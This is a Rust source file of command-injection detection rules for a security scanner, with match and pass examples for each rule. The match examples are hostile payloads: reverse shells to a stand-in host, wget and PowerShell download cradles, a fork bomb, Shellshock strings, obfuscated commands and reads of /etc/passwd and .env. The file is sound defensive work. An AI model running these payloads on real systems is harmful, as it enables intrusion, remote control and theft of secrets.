//! The rules about commands.

use super::{WANTS, detect};
use crate::finding::{Class, Paranoia, Rule, Severity};
use crate::rules::registry::Detector;
use crate::rules::scan::Bytes;

pub(in crate::rules) static DETECTOR: Detector = Detector {
    class: Class::Command,
    wants: WANTS,
    // A command line alone has letters at least.
    wants_suspicious: Bytes::LETTER,
    detect,
    rules: &[
        &CHAINED,
        &SUBSTITUTION,
        &OBFUSCATED,
        &FIELD_SEPARATOR,
        &ARITHMETIC,
        &ECHO,
        &BRACE_EXPANSION,
        &SHELLSHOCK,
        &FORK_BOMB,
        &REVERSE_SHELL,
        &BATCH,
        &POWERSHELL,
        &SUSPECTED,
        &COMMAND_LINE,
        &REDIRECTION,
        &ARGUMENT,
    ],
};

// Level 1: the weight of several signs, none of which is enough alone.
pub(super) static CHAINED: Rule = Rule {
    id: "command.chained-command",
    class: Class::Command,
    severity: Severity::Critical,
    cwe: 78,
    paranoia: Paranoia::One,
    summary: "a separator of a shell, and a command behind it",
    details: "\
`8.8.8.8; wget …` ends the command that the value was put into and starts another. Found are `;`, `|`, `&`, `&&`, `||` and line \
breaks with the name of a command behind them, when what stands before and behind looks like a value that is left and a command \
that is run, not like prose, a table or code. Where the field holds code, or Markdown with code in it, a command is only suspected, \
unless the text begins with a value and a separator right behind it.

Start programs with a list of arguments and without a shell (`execve`, `subprocess.run([…])`, `execFile`).",
    matches: &[
        "8.8.8.8; uname -r",
        "x.png|id",
        "report && netstat -tln",
        "'; wget http://203.0.113.9/a",
        "| type C:\\Windows\\win.ini",
        "& net localgroup",
        "x\"); ifconfig #",
        "a;/usr/sbin/arp -n",
        "; sudo lsof",
        "; n=$(whoami)",
        "x; h=who;i=ami;$h$i",
        "|| [ 1 -eq $(id -u) ]",
        "x\\&#59;id",
        "x;${SHELL} -c id",
        "x;{ id;}",
        "x;(id)",
        "x;until id;do :;done",
        "x;./a",
        "x|bash",
        "x;cat .env",
        "x;trap id EXIT",
    ],
    passes: &[
        "salt & pepper; more of it",
        "read; sort; file",
        "id; name; date",
        "Tom && Jerry",
        "| id | name |",
        "?page=2&id=7&sort=date",
        "the&#32;client&#x20;id",
        "first, cat food; then sleep",
        "AT&T; find us at the mall",
        "He sat; time passed",
        "if (a && b) { kill(c); }",
        "true && false",
        "fruits; {apple}",
        "a;./b;/tmp",
        "bash|zsh",
    ],
};

// Level 1: as for chained commands. Backticks in prose are Markdown and do not count.
pub(super) static SUBSTITUTION: Rule = Rule {
    id: "command.substitution",
    class: Class::Command,
    severity: Severity::Critical,
    cwe: 78,
    paranoia: Paranoia::One,
    summary: "a substitution of a shell with a command in it",
    details: "`$(whoami)`, `` `id` `` and `<(id)` run a command within another, in double quotes too. Start programs without a shell. \
              Where the field holds Markdown, what begins a code span is none; in a URL, path, file name or token every backtick is a shell's. \
              In a file name or token a known command is certain whatever is around it; in code, and in Markdown that quotes code, it is \
              suspected, unless the text begins with it or with one value in front of it.",
    matches: &["$(whoami)", "x$(cat /etc/passwd)y", "`id`", "\"`uname -a`\"", "<(ifconfig)", "a$(ls)"],
    passes: &["costs $(5)", "$(document).ready(f)", "use `ls` to list", "$(CC) -o $@", "`cat` and `sort`", "f(<(x))"],
};

// Level 1: nobody splits the name of a command but to hide it.
pub(super) static OBFUSCATED: Rule = Rule {
    id: "command.obfuscated-command",
    class: Class::Command,
    severity: Severity::Critical,
    cwe: 78,
    paranoia: Paranoia::One,
    summary: "a command whose name is hidden by quotes, escapes or empty expansions",
    details: "`w'h'oami`, `c\\at`, `un$@ame` and `who^ami` run like the plain name and pass filters that look for it. Start programs \
              without a shell. In a field of code they are suspected, unless the text begins with a value that they leave.",
    matches: &[
        "; w'h'oami",
        "|c\\at /etc/hosts",
        "x;un$@ame",
        "& who^ami",
        "ne``tstat -an",
        "; 'curl' http://203.0.113.9/",
    ],
    passes: &["mind the p's and q's", "C:\\cat", "don't; can't", "x'y'", "l'id; l'ego", "\"more\"; \"less\""],
};

// Level 1: joined to a word, it has no other use than to avoid a blank.
pub(super) static FIELD_SEPARATOR: Rule = Rule {
    id: "command.ifs-blank",
    class: Class::Command,
    severity: Severity::Critical,
    cwe: 78,
    paranoia: Paranoia::One,
    summary: "the variable IFS in place of a blank in a command",
    details: "`cat$IFS/etc/passwd` is a command with an argument, without a blank, to pass filters that refuse blanks. Start programs \
              without a shell.",
    matches: &["cat$IFS/etc/group", "ls${IFS}-la", "ping${IFS%??}-c1", "{echo,$IFS}$IFS$9x"],
    passes: &["OLD=$IFS", "IFS=,", "the variable $IFS", "\"$IFS\"", "${IFSET}"],
};

// Level 1: in the middle of a word, or where code runs a command for it, a sum of numbers asks only whether a shell computes it.
pub(super) static ARITHMETIC: Rule = Rule {
    id: "command.arithmetic-probe",
    class: Class::Command,
    severity: Severity::High,
    cwe: 78,
    paranoia: Paranoia::One,
    summary: "a sum of numbers in a word, in a shell's syntax",
    details: "`echo ab$((7+8))cd` says nothing but `ab15cd`: it asks whether a shell reads the value. So does \
              ``print(`echo $((7+8))`)``, of which PHP runs what is in backticks. Start programs without a shell.",
    matches: &[
        "echo x$((7+8))",
        "AB$((3*4))",
        "a$((1+1))$(echo b)",
        ")print(`echo ab`.`echo $((7+8))`);//",
        "print(`id -n;echo $((7+8))`)",
    ],
    passes: &[
        "sleep $((60*5))",
        "n=$((1+1))",
        "$((i+1))",
        "x$((i + 1))",
        "`echo $((1+2))` says 3",
        "say(`echo $((i+2))`)",
    ],
};

// Level 1: the output of a constant is the constant: only a probe asks for it.
pub(super) static ECHO: Rule = Rule {
    id: "command.echo-probe",
    class: Class::Command,
    severity: Severity::High,
    cwe: 78,
    paranoia: Paranoia::One,
    summary: "a substitution that only says a word again",
    details: "`$(echo word)` is `word` in a shell and itself elsewhere: it asks whether a shell reads the value. Start programs without a \
              shell.",
    matches: &["$(echo abc)", "n=$(echo qwe)", "x$(echo$IFS$()abc)", "\\n a=$(echo xy)\\n"],
    passes: &["$(echo \"$x\" | wc -c)", "$(echo $x)", "echo abc", "$(echo)"],
};

// Level 1: braces with an empty place next to a command, or a command with an option or a path.
pub(super) static BRACE_EXPANSION: Rule = Rule {
    id: "command.brace-expansion",
    class: Class::Command,
    severity: Severity::Critical,
    cwe: 78,
    paranoia: Paranoia::One,
    summary: "a command written as a brace expansion, without blanks",
    details: "`{cat,/etc/passwd}` expands to a command and its argument without a blank in it. Start programs without a shell.",
    matches: &["{wget,http://203.0.113.9/}", ";{cat,/etc/group}", "{,whoami}", "{ls,-la}", "{uname,}"],
    passes: &["{id,name}", "src/{cat,dog}.png", "{a,b}", "{\"id\",1}", "{sort,find} by"],
};

// Level 1: a value that starts so is a function for old versions of bash.
pub(super) static SHELLSHOCK: Rule = Rule {
    id: "command.shellshock",
    class: Class::Command,
    severity: Severity::Critical,
    cwe: 78,
    paranoia: Paranoia::One,
    summary: "a function definition as old versions of bash import it from the environment",
    details: "Old versions of bash run what follows a value that starts with `() {` when it comes from an environment variable \
              (CVE-2014-6271, CVE-2014-7169). Web servers put headers there for CGI programs.",
    matches: &["() { :; }; uname", "() { x; };id", "Agent: () { _; } >_[$($())] { id; }", "a='() { :;}; ls'"],
    passes: &["function () { return 1; }", "() => {}", "main() { x; }", "foo (){}", "on('x', function() { y(); });"],
};

// Level 1: nothing else calls itself on both sides of a pipe.
pub(super) static FORK_BOMB: Rule = Rule {
    id: "command.fork-bomb",
    class: Class::Command,
    severity: Severity::High,
    cwe: 78,
    paranoia: Paranoia::One,
    summary: "a function of a shell that starts itself until nothing is left",
    details: "`:(){ :|:& };:` fills the machine with processes. Start programs without a shell.",
    matches: &[":(){ :|:& };:", "b() { b|b& }; b", "x(){ x & x; };x"],
    passes: &["f() { g(); }", "f(x) { f | g }", "a(){ b|c }"],
};

// Level 1: a shell that is connected to the network has no honest use in a value.
pub(super) static REVERSE_SHELL: Rule = Rule {
    id: "command.reverse-shell",
    class: Class::Command,
    severity: Severity::Critical,
    cwe: 78,
    paranoia: Paranoia::One,
    summary: "a shell that is connected to the network",
    details: "`bash -i >& /dev/tcp/…` and `nc -e /bin/sh` give a shell on the machine to somebody elsewhere.",
    matches: &[
        "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1",
        "nc -e /bin/sh 203.0.113.9 1",
        "ncat -lvp 9 -e cmd.exe",
        "exec 5<>/dev/udp/203.0.113.9/53",
    ],
    passes: &["/dev/tcp is a feature of bash", "nc -z host 80", "the nc -e option", "nc 17"],
};

// Level 1: the variables of `for` are written so nowhere else.
pub(super) static BATCH: Rule = Rule {
    id: "command.batch-control",
    class: Class::Command,
    severity: Severity::High,
    cwe: 78,
    paranoia: Paranoia::One,
    summary: "a loop or condition of cmd.exe",
    details: "`for %i in (…) do …` and `if exist …` of `cmd.exe` run commands. Start programs without a shell. In a field of \
              code they are suspected, unless the text begins with a value that they leave.",
    matches: &[
        "for %i in (a b) do calc",
        "FOR /F \"tokens=1\" %%g IN ('ver') DO echo %%g",
        "& if not exist C:\\x md C:\\x",
        "if (%a%) equ (1) del x",
        "if /i \"%~2\" == \"x\" (exit /b)",
        "if\tnot\texist\tC:\\x\tmd x",
    ],
    passes: &[
        "for x in (1, 2)",
        "if exist, then what?",
        "for 5 % in (the) year",
        "if x == y (see below)",
        "if not, do it",
    ],
};

// Level 1: a cmdlet that runs or fetches, where a command starts; or PowerShell told to run something.
pub(super) static POWERSHELL: Rule = Rule {
    id: "command.powershell",
    class: Class::Command,
    severity: Severity::Critical,
    cwe: 78,
    paranoia: Paranoia::One,
    summary: "a command of PowerShell that runs or fetches something",
    details: "`IEX (New-Object Net.WebClient).DownloadString(…)`, `powershell -EncodedCommand …` and cmdlets behind a separator run \
              code. Start programs without a shell. In a field of code they are suspected, unless the text begins with a value that \
              they leave.",
    matches: &[
        "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/')",
        "powershell -enc SQBFAFgA",
        ";Get-Process",
        "powershell.exe C:\\x.ps1",
        "| Invoke-Expression",
        "iex(iwr 203.0.113.9)",
    ],
    passes: &[
        "PowerShell is a shell",
        "PowerShell&#32;is&#32;a&#32;shell",
        "Get-Process lists processes",
        "we use powershell - often",
        "iex",
        "new-object pattern",
    ],
};

// Level 2: one sign less than level 1 asks for.
pub(super) static SUSPECTED: Rule = Rule {
    id: "command.suspected-command",
    class: Class::Command,
    severity: Severity::Medium,
    cwe: 78,
    paranoia: Paranoia::Two,
    summary: "what could be a command behind a separator",
    details: "As `command.chained-command`, with a sign less: the command is an English word, or prose stands before it.",
    matches: &["; time", "& date", "look here; rm -r x"],
    passes: &["red; green", "a & b", "one; two | three"],
};

// Level 2: people write about commands.
pub(super) static COMMAND_LINE: Rule = Rule {
    id: "command.command-line",
    class: Class::Command,
    severity: Severity::Medium,
    cwe: 78,
    paranoia: Paranoia::Two,
    summary: "a whole command line",
    details: "The value is a command with arguments, such as `cat /etc/passwd`. Dangerous where it becomes a line of a script, a job or an \
              argument that is run.",
    matches: &["cat /etc/group", "uname -a", "/usr/bin/id", "ls -la /var", "net user x y /add", "$SHELL -c 'echo hi'"],
    passes: &["cat and mouse", "time is money", "chmod 777 explained", "find me at home", "sudo make me a sandwich"],
};

// Level 1: joined to one value, with an absolute path of a system behind it and nothing more.
pub(super) static REDIRECTION: Rule = Rule {
    id: "command.redirection",
    class: Class::Command,
    severity: Severity::High,
    cwe: 78,
    paranoia: Paranoia::One,
    summary: "a redirection of a shell to or from a file of the system, joined to a value",
    details: "`report>/var/www/html/x.php` makes the command that the value was put into write there, and `report</etc/passwd` gives it \
              what it should not see. Found is one value with the redirection right behind it, and an absolute path or one in somebody's \
              home up to the end. Start programs without a shell.",
    matches: &["x>/tmp/y", "report>>~/.ssh/authorized_keys", "x</etc/group", "a.pdf>/var/www/html/a.php"],
    passes: &["Home > Settings > /etc", "a>b", "<a>x</a>", "x > 5", "> /tmp/x", "i</var>"],
};

// Level 1: the name of the option says what it does; of names that several programs have, what they are given says it.
pub(super) static ARGUMENT: Rule = Rule {
    id: "command.argument-injection",
    class: Class::Command,
    severity: Severity::High,
    cwe: 88,
    paranoia: Paranoia::One,
    summary: "a value that a program reads as an option which runs a command or writes a file",
    details: "No shell is needed for it: `git clone` runs what `--upload-pack=…` names, `tar` what `--checkpoint-action=exec=…` does, `ssh` what \
              `-oProxyCommand=…` says, and `find` what is between `-exec` and `;`. Found is a value that begins with such an option, or one \
              value with it behind. Put `--` in front of values, and refuse those that begin with a dash.",
    matches: &[
        "--upload-pack=touch x",
        "-oProxyCommand=sh x",
        "--checkpoint-action=exec=sh x.sh",
        "--use-compress-program=x",
        "x -exec id ;",
        "ext::sh -c id",
        "ssh://-oProxyCommand=x/y",
        "--exec=/tmp/x",
        "%pipe%id",
    ],
    passes: &[
        "--exec=foreground",
        "git clone --upload-pack",
        "-o",
        "the option --to-command=x of tar",
        "--verbose=2",
        "- one thing",
        "ext::path",
    ],
};
